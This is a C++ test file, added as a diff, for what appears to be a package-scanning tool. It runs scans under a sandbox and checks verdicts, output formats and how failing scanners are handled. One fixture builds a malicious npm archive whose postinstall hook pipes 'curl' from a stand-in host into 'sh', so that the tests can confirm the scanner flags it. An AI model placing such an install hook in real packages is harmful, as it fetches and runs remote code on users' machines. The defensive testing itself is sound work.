@@ -1,0 +1,175 @@
+// `batlehub scan` as an operator runs it, under real bwrap, with postmortem's adapter over
+// a stand-in postmortem (tests/helpers/fake_postmortem: the real one is not installable
+// here) placed in its room: findings, verdicts, exit codes, formats, and a scanner that
+// crashes, hangs or prints garbage becoming a held verdict with the reason shown.
+#include <gtest/gtest.h>
+#include <nlohmann/json.hpp>
+
+#include "archive_builder.h"
+#include "harness.h"
+#include "rooms.h"
+#include "server/scan_command.h"
+
+namespace batlehub::testing {
+namespace {
+
+struct Ran {
+  int status = -1;
+  std::string out;
+  std::string err;
+};
+
+class ScanCli : public ::testing::Test {
+ protected:
+  void SetUp() override {
+    if (auto why = bwrap_unavailable(); !why.empty()) GTEST_SKIP() << why;
+    rooms_ = s_.root() / "rooms";
+    fs::create_directories(rooms_);
+    ASSERT_TRUE(build_room(rooms_, "postmortem",
+                           "--binary " + std::string(BATLEHUB_HELPERS_DIR) + "/fake_postmortem:/usr/bin/postmortem"));
+    Scratch::write(s_.root() / "left-pad-1.3.0.tgz",
+                   make_tgz({file("package/package.json", "{\"name\":\"left-pad\"}"), file("package/index.js", "x")}));
+    Scratch::write(s_.root() / "evil-pad-1.3.1.tgz",
+                   make_tgz({file("package/package.json",
+                                  "{\"scripts\":{\"postinstall\":\"curl -s https://x.example/s | sh\"}}")}));
+  }
+
+  fs::path config(const std::string& command = "postmortem", const std::string& extra = "") {
+    fs::path p = s_.root() / "config.toml";
+    Scratch::write(p, "[worker]\njob_timeout_secs = 20\n[worker.sandbox]\nrooms_dir = \"" + rooms_.string() + "\"\n" +
+                          extra + "\n[scanners.postmortem]\ntype = \"postmortem\"\ncommand = \"" + command +
+                          "\"\ntimeline = false\n");
+    return p;
+  }
+
+  Ran scan(std::vector<std::string> args) {
+    fs::path out = s_.root() / "stdout";
+    std::string cmd = std::string(BATLEHUB_BIN) + " scan";
+    for (const auto& a : args) cmd += " '" + a + "'";
+    cmd += " > " + out.string();
+    std::string err;
+    int rc = run_process({"/bin/sh", "-c", cmd}, s_.root(), {"PATH=/usr/bin:/bin"}, &err);
+    return Ran{rc, Scratch::read(out), err};
+  }
+
+  std::string archive(const char* name) { return (s_.root() / name).string(); }
+
+  Scratch s_;
+  fs::path rooms_;
+};
+
+TEST_F(ScanCli, a_benign_package_is_allowed) {
+  Ran r = scan({"--config", config().string(), archive("left-pad-1.3.0.tgz")});
+  EXPECT_EQ(r.status, 0) << r.out << r.err;
+  EXPECT_EQ(r.out,
+            "local:left-pad@1.3.0\n"
+            "  state      allowed\n"
+            "  reasons    —\n"
+            "  policy     local/default\n"
+            "  evaluated  " + r.out.substr(r.out.find("evaluated  ") + 11, 20) + "\n"
+            "  scanned    " + r.out.substr(r.out.find("evaluated  ") + 11, 20) + "\n"
+            "  scanners   postmortem\n"
+            "  findings   none\n"
+            "Served.\n");
+  EXPECT_NE(r.err.find("INFO sandbox: probing runtime \"bwrap\""), std::string::npos) << r.err;
+  EXPECT_NE(r.err.find("INFO scan: local:left-pad@1.3.0: scanning with postmortem (runtime bwrap"), std::string::npos);
+}
+
+TEST_F(ScanCli, an_install_hook_warns_by_default_and_denies_when_asked) {
+  Ran r = scan({"--config", config().string(), archive("evil-pad-1.3.1.tgz")});
+  EXPECT_EQ(r.status, 10) << r.out << r.err;
+  EXPECT_NE(r.out.find("  state      warned\n"), std::string::npos) << r.out;
+  EXPECT_NE(r.out.find("  reasons    INSTALL_HOOK\n"), std::string::npos);
+  EXPECT_NE(r.out.find("    postmortem   high       INSTALL_HOOK           "), std::string::npos) << r.out;
+  Ran deny = scan({"--config", config().string(), "--deny-install-hooks", "deny", archive("evil-pad-1.3.1.tgz")});
+  EXPECT_EQ(deny.status, 30) << deny.out;
+  EXPECT_NE(deny.out.find("  state      denied\n"), std::string::npos);
+  EXPECT_NE(deny.out.find("Refused until"), std::string::npos);
+}
+
+TEST_F(ScanCli, json_and_sarif_carry_the_same_findings) {
+  Ran j = scan({"--config", config().string(), "--format", "json", archive("evil-pad-1.3.1.tgz")});
+  auto doc = nlohmann::json::parse(j.out);
+  ASSERT_EQ(doc.size(), 1u);
+  EXPECT_EQ(doc[0]["state"], "warned");
+  EXPECT_EQ(doc[0]["name"], "evil-pad");
+  ASSERT_EQ(doc[0]["findings"].size(), 1u);
+  EXPECT_EQ(doc[0]["findings"][0]["code"], "INSTALL_HOOK");
+  EXPECT_EQ(doc[0]["runtime"], "bwrap");
+  Ran s = scan({"--config", config().string(), "--format", "sarif", archive("evil-pad-1.3.1.tgz")});
+  auto sarif = nlohmann::json::parse(s.out);
+  EXPECT_EQ(sarif["version"], "2.1.0");
+  ASSERT_EQ(sarif["runs"].size(), 1u);
+  EXPECT_EQ(sarif["runs"][0]["tool"]["driver"]["name"], "postmortem");
+  ASSERT_EQ(sarif["runs"][0]["results"].size(), 1u);
+  EXPECT_EQ(sarif["runs"][0]["results"][0]["level"], "error");
+  EXPECT_EQ(sarif["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
+            archive("evil-pad-1.3.1.tgz"));
+}
+
+// A scanner that fails in any way is a SCANNER_ERROR finding, and under the default
+// scanner_error = "quarantine" a held verdict, with the reason in the output. hostile plays
+// each part: run as `crashes scan …` it knows no mode "scan" and exits 64; installed as
+// garbage-scanner it prints something that is not JSON; as hanging-scanner it hangs.
+TEST_F(ScanCli, a_scanner_that_crashes_times_out_or_prints_garbage_holds_the_package) {
+  struct Case {
+    std::string command;
+    std::string timeout;
+    std::string says;
+  };
+  for (const Case& c : std::vector<Case>{{"crashes", "20", "SCANNER_ERROR          scanner crashed: postmortem exited 64"},
+                                          {"garbage-scanner", "20", "SCANNER_ERROR          scanner output could not be read: scanner output is not JSON"},
+                                          {"hanging-scanner", "2", "SCANNER_ERROR          scanner timed out"}}) {
+    fs::copy_file(std::string(BATLEHUB_HELPERS_DIR) + "/hostile", rooms_ / "postmortem/usr/bin" / c.command,
+                  fs::copy_options::overwrite_existing);
+    fs::path cfg = config(c.command);
+    std::string text = Scratch::read(cfg);
+    text.replace(text.find("job_timeout_secs = 20"), 21, "job_timeout_secs = " + c.timeout);
+    Scratch::write(cfg, text);
+    Ran r = scan({"--config", cfg.string(), archive("left-pad-1.3.0.tgz")});
+    EXPECT_EQ(r.status, 20) << c.command << "\n" << r.out << r.err;
+    EXPECT_NE(r.out.find("  state      quarantined\n"), std::string::npos) << r.out;
+    EXPECT_NE(r.out.find("  reasons    SCANNER_ERROR\n"), std::string::npos) << r.out;
+    EXPECT_NE(r.out.find(c.says), std::string::npos) << r.out;
+    EXPECT_NE(r.out.find("Held until"), std::string::npos);
+    fs::remove(cfg);
+  }
+}
+
+TEST_F(ScanCli, walls_that_fail_their_probe_scan_nothing) {
+  fs::create_directories(rooms_ / "postmortem/bin");
+  fs::copy_file(std::string(BATLEHUB_HELPERS_DIR) + "/hostile", rooms_ / "postmortem/bin/sh");
+  Ran r = scan({"--config", config().string(), archive("left-pad-1.3.0.tgz")});
+  EXPECT_EQ(r.status, 3);
+  EXPECT_EQ(r.out.substr(0, r.out.find('\n')), "no_shell: found /bin/sh");
+  EXPECT_EQ(r.err.find("scanning with"), std::string::npos) << "nothing may be scanned behind a failed probe";
+}
+
+TEST(ScanNames, kinds_names_and_versions_from_file_names) {
+  using server::kind_from_file_name;
+  using server::name_version_from_file_name;
+  EXPECT_EQ(kind_from_file_name("/x/left-pad-1.3.0.tgz"), core::PackageKind::kNpm);
+  EXPECT_EQ(kind_from_file_name("requests-2.31.0-py3-none-any.whl"), core::PackageKind::kPypi);
+  EXPECT_EQ(kind_from_file_name("serde-1.0.0.crate"), core::PackageKind::kCargo);
+  EXPECT_EQ(kind_from_file_name("rails-7.0.0.gem"), core::PackageKind::kRubygems);
+  EXPECT_EQ(kind_from_file_name("x-1.0.tar.gz"), std::nullopt) << "ambiguous: needs --kind";
+  EXPECT_EQ(name_version_from_file_name("/x/left-pad-1.3.0.tgz"), (std::pair<std::string, std::string>{"left-pad", "1.3.0"}));
+  EXPECT_EQ(name_version_from_file_name("requests-2.31.0-py3-none-any.whl"),
+            (std::pair<std::string, std::string>{"requests", "2.31.0"}));
+  EXPECT_EQ(name_version_from_file_name("evil_setup-0.1.0.tar.gz"), (std::pair<std::string, std::string>{"evil_setup", "0.1.0"}));
+  EXPECT_EQ(name_version_from_file_name("@scope-pkg-2.0.0-beta.1.tgz"),
+            (std::pair<std::string, std::string>{"@scope-pkg", "2.0.0-beta.1"}));
+  EXPECT_EQ(name_version_from_file_name("noversion.tgz"), std::nullopt);
+}
+
+TEST(ScanPool, the_pool_is_the_memory_budget_over_the_cost_of_a_run_and_at_least_one) {
+  config::SandboxConfig s;
+  s.memory_limit_mb = 1024 * 1024;  // more than any host here
+  EXPECT_EQ(server::sandbox_pool_size(s), 1u);
+  s.memory_limit_mb = 1;
+  s.max_extracted_mb = 1;
+  EXPECT_GT(server::sandbox_pool_size(s), 1u);
+}
+
+}  // namespace
+}  // namespace batlehub::testing
